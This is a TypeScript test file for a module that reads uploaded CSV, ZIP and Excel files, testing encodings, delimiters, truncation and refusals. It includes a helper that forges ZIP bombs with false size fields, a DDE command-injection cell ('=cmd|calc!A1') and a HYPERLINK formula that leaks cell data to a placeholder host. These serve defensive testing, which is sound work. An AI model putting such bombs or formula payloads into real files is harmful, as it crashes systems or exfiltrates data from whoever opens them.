import assert from 'node:assert/strict'
import { test } from 'node:test'
import { crc32, deflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import { FileRefused } from './file-refused.ts'
import type { HandedOverFile } from './imported-record.ts'
import { largestFileBytes, readTables } from './read-table.ts'

function fileOf(text: string, encoding: BufferEncoding = 'utf8', name = 'list.csv'): HandedOverFile {
  return { name, bytes: Buffer.from(text, encoding) }
}

async function rowsOf(file: HandedOverFile) {
  const [table] = await readTables(file)
  assert.ok(table)
  const rows = await Array.fromAsync(table.rows)
  return { rows, encoding: table.encoding, doubts: table.doubts }
}

async function refusal(file: HandedOverFile): Promise<string> {
  try {
    for (const table of await readTables(file)) await Array.fromAsync(table.rows)
  } catch (error) {
    assert.ok(error instanceof FileRefused)
    return error.message
  }
  throw new assert.AssertionError({ message: 'The file was read' })
}

/** A ZIP of one entry whose directory may lie about its size. */
function zipOf(name: string, contents: Buffer, saysBytes = contents.length, count = 1): Buffer {
  const packed = deflateRawSync(contents)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(crc32(contents), 14)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(saysBytes, 22)
  local.writeUInt16LE(name.length, 26)
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(8, 10)
  entry.writeUInt32LE(crc32(contents), 16)
  entry.writeUInt32LE(packed.length, 20)
  entry.writeUInt32LE(saysBytes, 24)
  entry.writeUInt16LE(name.length, 28)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(30 + name.length + packed.length, 16)
  return Buffer.concat([local, Buffer.from(name), packed, entry, Buffer.from(name), end])
}

test('line numbers are those of the file, with line breaks inside quotes and blank lines', async () => {
  const { rows } = await rowsOf(fileOf('Title\r\n\r\nA,B\r\n1,"two\r\nlines"\r\n3,4\r\n'))
  assert.deepEqual(
    rows.filter((row) => row.cells.length === 2),
    [
      { line: 3, cells: ['A', 'B'] },
      { line: 4, cells: ['1', 'two\r\nlines'] },
      { line: 6, cells: ['3', '4'] },
    ],
  )
})

test('UTF-8 with a byte-order mark, UTF-16 and Windows-1252 are told apart', async () => {
  const text = 'Name,Cost\nMáire,£10\n'
  for (const [file, encoding] of [
    [fileOf(`\ufeff${text}`), 'utf-8'],
    [fileOf(`\ufeff${text}`, 'utf16le'), 'utf-16le'],
    [fileOf(text, 'utf16le'), 'utf-16le'],
    [fileOf(text, 'latin1'), 'windows-1252'],
  ] as const) {
    const read = await rowsOf(file)
    assert.equal(read.encoding, encoding)
    assert.deepEqual(read.rows[1]?.cells, ['Máire', '£10'])
  }
})

test('semicolons, tabs and bars part cells as well', async () => {
  for (const mark of [';', '\t', '|'])
    assert.deepEqual((await rowsOf(fileOf(`A${mark}B${mark}C\n1${mark}2,5${mark}3\n`))).rows[1]?.cells, ['1', '2,5', '3'])
})

test('a file cut short keeps the rows before the cut and says so', async () => {
  const { rows, doubts } = await rowsOf(fileOf('A,B\n1,2\n3,"cut sho'))
  assert.deepEqual(
    rows.map((row) => row.cells[0]),
    ['A', '1'],
  )
  assert.match(doubts.join(), /quotation mark opened on line 3 is never closed/)
})

test('a file cut inside a letter is still read as UTF-8, with a doubt', async () => {
  const { rows, encoding, doubts } = await rowsOf({ name: 'cut.csv', bytes: Buffer.from('A,B\nMáire,é').subarray(0, -1) })
  assert.equal(encoding, 'utf-8')
  assert.equal(rows[1]?.cells[0], 'Máire')
  assert.match(doubts.join(), /cut short/)
})

test('a quotation mark in the middle of a cell harms nothing', async () => {
  assert.deepEqual(
    (await rowsOf(fileOf('A,B\n5" bed,x\n1,2\n'))).rows.map((row) => row.cells),
    [
      ['A', 'B'],
      ['5" bed', 'x'],
      ['1', '2'],
    ],
  )
})

test('what is no table is refused with a sentence', async () => {
  assert.match(await refusal(fileOf('')), /empty/)
  assert.match(await refusal(fileOf('%PDF-1.7 ...')), /PDF/)
  assert.match(await refusal({ name: 'old.xls', bytes: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0, 0, 0]) }), /older Excel file/)
  assert.match(await refusal({ name: 'x.bin', bytes: Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 1, 2, 3]) }), /not a table/)
  assert.match(await refusal({ name: 'big.csv', bytes: new Uint8Array(largestFileBytes + 1) }), /larger than 50 MB/)
})

test('a ZIP bomb as a workbook is refused before it is unpacked', async () => {
  const bomb = zipOf('xl/workbook.xml', Buffer.alloc(1000), 4_000_000_000)
  const before = process.memoryUsage().rss
  assert.match(await refusal({ name: 'bomb.xlsx', bytes: bomb }), /would unpack to more than/)
  assert.ok(process.memoryUsage().rss - before < 100 * 1024 * 1024)
})

test('a ZIP bomb that lies about its size is refused', async () => {
  const bomb = zipOf('xl/workbook.xml', Buffer.alloc(300 * 1024 * 1024), 1000)
  assert.ok(bomb.length < 1024 * 1024)
  assert.match(await refusal({ name: 'bomb.xlsx', bytes: bomb }), /larger than it says/)
})

test('a ZIP of very many parts, or without its end, is refused', async () => {
  assert.match(await refusal({ name: 'many.zip', bytes: zipOf('a.csv', Buffer.from('x'), 1, 60_000) }), /60000 parts/)
  assert.match(await refusal({ name: 'cut.zip', bytes: zipOf('a.csv', Buffer.from('A,B\n1,2\n')).subarray(0, 60) }), /incomplete/)
})

test('a ZIP of CSV files is read file by file', async () => {
  const [table] = await readTables({ name: 'extract.zip', bytes: zipOf('RRE/list.csv', Buffer.from('A,B\n1,2\n')) })
  assert.equal(table?.file, 'extract.zip/RRE/list.csv')
})

test('a workbook gives text: a formula is its stored result and is never run, a date is its day', async () => {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('Register')
  sheet.mergeCells('A1:D1')
  sheet.getCell('A1').value = 'Title over four columns'
  sheet.addRow(['Name', 'DOB', 'Cost', 'Link'])
  sheet.addRow([
    { formula: 'HYPERLINK("http://example.test/?"&A2,"click")', result: 'SMITH, John' },
    new Date(Date.UTC(1990, 6, 14)),
    { formula: '1+1' },
    { text: 'shown', hyperlink: 'http://example.test' },
  ])
  sheet.addRow(['=cmd|calc!A1', 35491, true, { richText: [{ text: 'two ' }, { text: 'parts' }] }])
  const [table] = await readTables({ name: 'register.xlsx', bytes: new Uint8Array(await workbook.xlsx.writeBuffer()) })
  assert.ok(table)
  assert.equal(table.sheet, 'Register')
  assert.deepEqual(await Array.fromAsync(table.rows), [
    { line: 1, cells: ['Title over four columns'] },
    { line: 2, cells: ['Name', 'DOB', 'Cost', 'Link'] },
    { line: 3, cells: ['SMITH, John', '1990-07-14', '', 'shown'] },
    { line: 4, cells: ['=cmd|calc!A1', '35491', 'true', 'two parts'] },
  ])
})

test('a rule over a million cells of a workbook costs nothing', async () => {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('List') as ExcelJS.Worksheet & {
    dataValidations: { add(range: string, rule: ExcelJS.DataValidation): void }
  }
  sheet.addRow(['Name'])
  sheet.dataValidations.add('A2:Z1000000', { type: 'list', allowBlank: true, formulae: ['"Yes,No"'] })
  const bytes = new Uint8Array(await workbook.xlsx.writeBuffer())
  const started = performance.now()
  const [table] = await readTables({ name: 'list.xlsx', bytes })
  assert.ok(table)
  assert.equal((await Array.fromAsync(table.rows)).length, 1)
  assert.ok(performance.now() - started < 5000)
})

test('a damaged workbook is refused with a sentence', async () => {
  assert.match(await refusal({ name: 'bad.xlsx', bytes: zipOf('xl/workbook.xml', Buffer.from('<no')) }), /workbook is damaged/)
})
